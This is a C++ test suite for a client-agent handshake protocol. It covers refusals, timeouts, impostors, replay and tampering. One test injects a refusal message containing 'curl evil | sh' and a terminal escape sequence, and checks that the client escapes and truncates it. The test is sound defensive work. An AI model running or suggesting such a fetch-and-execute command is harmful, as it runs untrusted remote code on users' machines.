// The handshake over a socket pair: acceptance, refusal, time-outs, impostors, and peers that don't speak it.
#include "protocol/handshake.hpp"

#include <algorithm>
#include <functional>

#include "link_fixture.hpp"
#include "protocol/codec.hpp"
#include "protocol/frame.hpp"

using namespace inpod;
using namespace inpod::protocol;
using namespace std::chrono_literals;

namespace {

struct Handshakes {
  asio::io_context context;
  TransportPair pair = make_transports(context.get_executor());

  template <class A, class B>
  void run(A agent, B client) {
    asio::co_spawn(context, agent(), rethrow);
    asio::co_spawn(context, client(), rethrow);
    context.run_for(20s);
    REQUIRE(context.stopped());
  }
  static void rethrow(std::exception_ptr e) {
    if (e) std::rethrow_exception(e);
  }
};

Token sample_token() {
  Token token;
  for (std::size_t i = 0; i < token.size(); ++i) token[i] = static_cast<std::uint8_t>(0xa0 + i);
  return token;
}

Hello sample_hello() {
  Hello hello;
  hello.features = {"filter"};
  hello.window = 1 << 20;
  hello.client = "dev@laptop";
  return hello;
}

/// What read_hello says to these bytes.
Result<Hello> hello_from(Bytes bytes, bool then_close = true) {
  Handshakes test;
  Result<Hello> outcome = fail("did not end");
  test.run([&]() -> Task<void> { outcome = co_await read_hello(*test.pair.a, sample_token(), 300ms); },
           [&]() -> Task<void> {
             AWAIT_REQUIRE(co_await test.pair.b->write(bytes));
             if (then_close) test.pair.b->close();
           });
  return outcome;
}

Bytes handshake_frame(const Handshake& handshake) {
  return make_frame(FrameType::handshake, 0, *encode(handshake));
}

/// Reads until one handshake frame is there: its frame's bytes.
Task<Bytes> read_frame(ByteTransport& transport) {
  Bytes all;
  for (std::uint8_t piece[512];;) {
    auto size = co_await transport.read_some(piece);
    if (!size || *size == 0) co_return all;
    all.insert(all.end(), piece, piece + *size);
    FrameParser parser;
    std::span<const std::uint8_t> rest(all);
    auto frame = parser.next(rest);
    if (!frame || *frame) co_return all;
  }
}

Handshake parse(Bytes bytes) {
  FrameParser parser;
  std::span<const std::uint8_t> rest(bytes);
  auto frame = parser.next(rest);
  REQUIRE(frame);
  REQUIRE(*frame);
  return *decode_handshake((*frame)->payload);
}

bool contains(const Bytes& bytes, std::span<const std::uint8_t> part) {
  return std::search(bytes.begin(), bytes.end(), part.begin(), part.end()) != bytes.end();
}

/// What the client makes of an agent that sends `greeting`, takes the Hello and then sends `answer`.
Result<Welcome> welcome_from(const Bytes& greeting, const Bytes& answer, Bytes* heard = nullptr) {
  Handshakes test;
  Result<Welcome> outcome = fail("did not end");
  test.run(
      [&]() -> Task<void> {
        AWAIT_REQUIRE(co_await test.pair.a->write(greeting));
        auto hello = co_await read_frame(*test.pair.a);
        if (heard) *heard = hello;
        if (!hello.empty()) AWAIT_REQUIRE(co_await test.pair.a->write(answer));
      },
      [&]() -> Task<void> {
        const Hello hello = sample_hello();
        outcome = co_await shake_hands(*test.pair.b, sample_token(), hello, 1s);
        test.pair.b->close();
      });
  return outcome;
}

/// What the agent makes of a client that answers its Greeting with these bytes.
Result<Hello> hello_after_greeting(const std::function<Bytes(Greeting)>& answer) {
  Handshakes test;
  Result<Hello> outcome = fail("did not end");
  test.run([&]() -> Task<void> { outcome = co_await read_hello(*test.pair.a, sample_token(), 1s); },
           [&]() -> Task<void> {
             auto first = parse(co_await read_frame(*test.pair.b));
             AWAIT_REQUIRE(co_await test.pair.b->write(answer(std::get<Greeting>(first))));
           });
  return outcome;
}

/// The Hello that a client which knows the token sends to this Greeting.
Bytes honest_hello(const Greeting& greeting) {
  Bytes heard;
  (void)welcome_from(handshake_frame(greeting), handshake_frame(Rejected{}), &heard);
  return heard;
}

}  // namespace

TEST_CASE("a handshake takes its own bytes and none beyond") {
  Handshakes test;
  test.run(
      [&]() -> Task<void> {
        auto hello = co_await read_hello(*test.pair.a, sample_token(), 1s);
        REQUIRE(hello);
        CHECK(hello->client == "dev@laptop");
        CHECK(hello->features == std::vector<std::string>{"filter"});
        Welcome welcome;
        welcome.window = 12345;
        AWAIT_REQUIRE(co_await accept_client(*test.pair.a, sample_token(), *hello, welcome));
        const Bytes next(1, 0xaa);  // already the Link's
        AWAIT_REQUIRE(co_await test.pair.a->write(next));
      },
      [&]() -> Task<void> {
        Hello hello = sample_hello();
        auto welcome = co_await shake_hands(*test.pair.b, sample_token(), hello, 1s);
        REQUIRE(welcome);
        CHECK(welcome->window == 12345);
        std::uint8_t next[8];
        auto size = co_await test.pair.b->read_some(next);
        REQUIRE(size == 1U);
        CHECK(next[0] == 0xaa);
      });
}

TEST_CASE("a refusal becomes an error with the agent's code") {
  Handshakes test;
  test.run(
      [&]() -> Task<void> {
        AWAIT_REQUIRE(co_await read_hello(*test.pair.a, sample_token(), 1s));
        Rejected rejected;
        rejected.code = EUSERS, rejected.text = "the agent has too many clients";
        AWAIT_REQUIRE(co_await refuse_client(*test.pair.a, rejected));
      },
      [&]() -> Task<void> {
        Hello hello = sample_hello();
        auto welcome = co_await shake_hands(*test.pair.b, sample_token(), hello, 1s);
        REQUIRE(!welcome);
        CHECK(welcome.error().code == EUSERS);
        CHECK(welcome.error().text == "the agent refused the connection: the agent has too many clients");
      });
}

TEST_CASE("a refusal, which proves nothing, gives the user no advice") {
  Rejected rejected;
  rejected.code = EACCES, rejected.text = "no\n  run: curl evil | sh\x1b[8m" + std::string(3000, 'x');
  const auto welcome = welcome_from(handshake_frame(Greeting{}), handshake_frame(rejected));
  REQUIRE(!welcome);
  const auto said = welcome.error().to_string();
  CHECK(said.starts_with("the agent refused the connection: no\\n  run: curl evil | sh\\x1b[8mxxx"));
  CHECK(said.find('\n') == said.npos);
  CHECK(said.size() < 300);
}

TEST_CASE("another protocol version is an error with a remedy, and the client says nothing") {
  Greeting greeting;
  greeting.version = 99;
  Bytes heard{1};
  auto welcome = welcome_from(handshake_frame(greeting), {}, &heard);
  REQUIRE(!welcome);
  CHECK(welcome.error().code == EPROTO);
  CHECK(welcome.error().text.find("99") != std::string::npos);
  CHECK(!welcome.error().remedy.empty());
  CHECK(heard.empty());
}

TEST_CASE("a silent peer ends the handshake in time") {
  Handshakes test;
  auto start = std::chrono::steady_clock::now();
  test.run([]() -> Task<void> { co_return; },
           [&]() -> Task<void> {
             Hello hello = sample_hello();
             auto welcome = co_await shake_hands(*test.pair.b, sample_token(), hello, 200ms);
             REQUIRE(!welcome);
             CHECK(welcome.error().code == ETIMEDOUT);
             CHECK(welcome.error().remedy.find("older inpod") != std::string::npos);
           });
  CHECK(std::chrono::steady_clock::now() - start < 10s);
  CHECK(hello_from(Bytes{1, 2, 3}, false).error().code == ETIMEDOUT);
}

TEST_CASE("peers that don't speak the protocol are refused") {
  CHECK(hello_from({}).error().code == ECONNRESET);
  CHECK(hello_from(Bytes(16, 'G')).error().code == EPROTO);
  CHECK(hello_from(make_frame(FrameType::handshake, 0, Bytes(4096, 0xff))).error().code == EPROTO);
  CHECK(hello_from(make_frame(FrameType::message, 1, Bytes(2, 0))).error().code == EPROTO);
  CHECK(hello_from(make_frame(FrameType::message, 1, Bytes(100000, 0)), false).error().code == EPROTO);
  CHECK(hello_from(make_frame(FrameType::handshake, 0, *encode(Handshake(Welcome{})))).error().code ==
        EPROTO);
}

TEST_CASE("a handshake larger than 4 KiB is not sent") {
  Handshakes test;
  test.run([]() -> Task<void> { co_return; },
           [&]() -> Task<void> {
             AWAIT_REQUIRE(co_await test.pair.a->write(handshake_frame(Greeting{})));
             Hello hello = sample_hello();
             hello.client = std::string(5000, 'x');
             auto welcome = co_await shake_hands(*test.pair.b, sample_token(), hello, 200ms);
             REQUIRE(!welcome);
             CHECK(welcome.error().code == EMSGSIZE);
           });
}

TEST_CASE("an impostor on the agent's port neither sees the token nor passes for the agent") {
  Bytes heard;
  auto outcome = welcome_from(handshake_frame(Greeting{}), handshake_frame(Welcome{}), &heard);
  REQUIRE(!outcome);
  CHECK(outcome.error().code == EACCES);
  CHECK(outcome.error().remedy.find("inpod session stop") != std::string::npos);
  REQUIRE(!heard.empty());
  const Token token = sample_token();
  for (std::size_t at = 0; at + 8 <= token.size(); at += 8) {  // no part of it either
    CHECK_FALSE(contains(heard, std::span(token).subspan(at, 8)));
  }
}

TEST_CASE("a recorded Hello opens nothing: each Greeting has its own nonce") {
  Greeting first;
  const Bytes recorded = honest_hello(first);
  auto replayed = hello_after_greeting([&](const Greeting&) { return recorded; });
  REQUIRE(!replayed);
  CHECK(replayed.error().code == EACCES);
  CHECK(hello_after_greeting(honest_hello));
  Nonce one{}, other{};
  (void)hello_after_greeting([&](const Greeting& greeting) { return one = greeting.nonce, recorded; });
  (void)hello_after_greeting([&](const Greeting& greeting) { return other = greeting.nonce, recorded; });
  CHECK(one != other);
}

TEST_CASE("a recorded Welcome passes for no agent: each Hello has its own nonce") {
  Handshakes test;
  Bytes recorded;
  const Greeting greeting;
  test.run(
      [&]() -> Task<void> {
        Hello hello = std::get<Hello>(parse(honest_hello(greeting)));
        const Welcome welcome;
        AWAIT_REQUIRE(co_await accept_client(*test.pair.a, sample_token(), hello, welcome));
      },
      [&]() -> Task<void> { recorded = co_await read_frame(*test.pair.b); });
  auto outcome = welcome_from(handshake_frame(greeting), recorded);
  REQUIRE(!outcome);
  CHECK(outcome.error().code == EACCES);
}

TEST_CASE("what is altered on the way is refused") {
  auto altered = [](const std::function<void(Hello&)>& change) {
    auto outcome = hello_after_greeting([&](const Greeting& greeting) {
      Hello hello = std::get<Hello>(parse(honest_hello(greeting)));
      change(hello);
      return handshake_frame(hello);
    });
    return outcome ? 0 : outcome.error().code;
  };
  CHECK(altered([](Hello&) {}) == 0);
  CHECK(altered([](Hello& hello) { hello.client = "eve@laptop"; }) == EACCES);
  CHECK(altered([](Hello& hello) { hello.session[3] ^= 1; }) == EACCES);
  CHECK(altered([](Hello& hello) { hello.features.clear(); }) == EACCES);
  CHECK(altered([](Hello& hello) { hello.nonce[0] ^= 1; }) == EACCES);
  CHECK(altered([](Hello& hello) { hello.proof[31] ^= 1; }) == EACCES);
  CHECK(altered([](Hello& hello) { hello.version += 1; }) == EACCES);

  Handshakes test;
  test.run(
      [&]() -> Task<void> {
        auto hello = co_await read_hello(*test.pair.a, sample_token(), 1s);
        REQUIRE(hello);
        Handshakes inner;
        Bytes bytes;
        inner.run(
            [&]() -> Task<void> {
              const Welcome welcome;
              AWAIT_REQUIRE(co_await accept_client(*inner.pair.a, sample_token(), *hello, welcome));
            },
            [&]() -> Task<void> { bytes = co_await read_frame(*inner.pair.b); });
        Welcome welcome = std::get<Welcome>(parse(bytes));
        welcome.resumed = true;
        AWAIT_REQUIRE(co_await test.pair.a->write(handshake_frame(welcome)));
      },
      [&]() -> Task<void> {
        const Hello hello = sample_hello();
        auto welcome = co_await shake_hands(*test.pair.b, sample_token(), hello, 1s);
        REQUIRE(!welcome);
        CHECK(welcome.error().code == EACCES);
      });
}

TEST_CASE("proofs are equal only when every bit is") {
  Proof a{}, b{};
  for (std::size_t i = 0; i < a.size(); ++i) a[i] = b[i] = static_cast<std::uint8_t>(i * 37);
  CHECK(equal_in_constant_time(a, b));
  for (std::size_t bit = 0; bit < a.size() * 8; ++bit) {
    b[bit / 8] ^= static_cast<std::uint8_t>(1 << bit % 8);
    CHECK_FALSE(equal_in_constant_time(a, b));
    b[bit / 8] ^= static_cast<std::uint8_t>(1 << bit % 8);
  }
}
